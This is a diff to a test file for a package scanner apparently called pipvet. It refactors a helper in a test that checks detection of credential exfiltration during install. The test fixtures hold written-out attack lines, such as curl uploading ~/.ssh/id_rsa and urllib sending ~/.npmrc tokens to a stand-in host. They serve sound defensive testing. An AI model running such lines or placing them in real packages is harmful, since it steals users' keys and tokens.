@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from rulekit import ids, py, run, severities
 
+from pipvet.analysis.context import FileContext
 from pipvet.analysis.rules import exfiltration, secrets
 from pipvet.analysis.score import score
 from pipvet.models import Severity, Stage, Verdict
@@ -676,7 +677,10 @@ def test_credential_files_carried_out_by_a_tool_an_archive_or_a_regular_expressi
     """A key handed to curl's upload option, ``~/.ssh`` packed into a tar that is then posted,
     and a token cut out of ``~/.npmrc`` by a regular expression all leave with the data; a key
     given to ``scp -i`` proves who is copying, and a backup command packs ``~/.ssh`` on request."""
-    setup = {"path": "x-1.0/setup.py", "stage": Stage.INSTALL}
+
+    def setup(source: str) -> FileContext:
+        return py(source, path="x-1.0/setup.py", stage=Stage.INSTALL)
+
     head = "import io, os, re, subprocess, tarfile, urllib.request\nHOME = os.path.expanduser('~')\n"
     carried = {
         "curl": "subprocess.run(['curl', '-F', f'f=@{HOME}/.ssh/id_rsa', 'https://h.example/u'])\n",
@@ -688,7 +692,7 @@ def test_credential_files_carried_out_by_a_tool_an_archive_or_a_regular_expressi
         "urllib.request.urlopen('https://h.example/n?t=' + ','.join(tok))\n",
     }
     for name, body in carried.items():
-        assert severities(R, py(head + body, **setup), "PV-EXF-COMBO") == [Severity.CRITICAL], name
+        assert severities(R, setup(head + body), "PV-EXF-COMBO") == [Severity.CRITICAL], name
     identity = (
         "subprocess.run(['scp', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'dist.tar', 'h:/srv'])\n"
         "urllib.request.urlopen('https://h.example/deployed')\n"
@@ -698,7 +702,7 @@ def test_credential_files_carried_out_by_a_tool_an_archive_or_a_regular_expressi
         "        t.add(os.path.expanduser('~/.ssh'))\n"
         "    urllib.request.urlopen('https://h.example/done')\n"
     )
-    assert "PV-EXF-COMBO" not in ids(run(R, py(head + identity, **setup)))
+    assert "PV-EXF-COMBO" not in ids(run(R, setup(head + identity)))
     assert "PV-EXF-COMBO" not in ids(run(R, py(head + backup)))
 
 
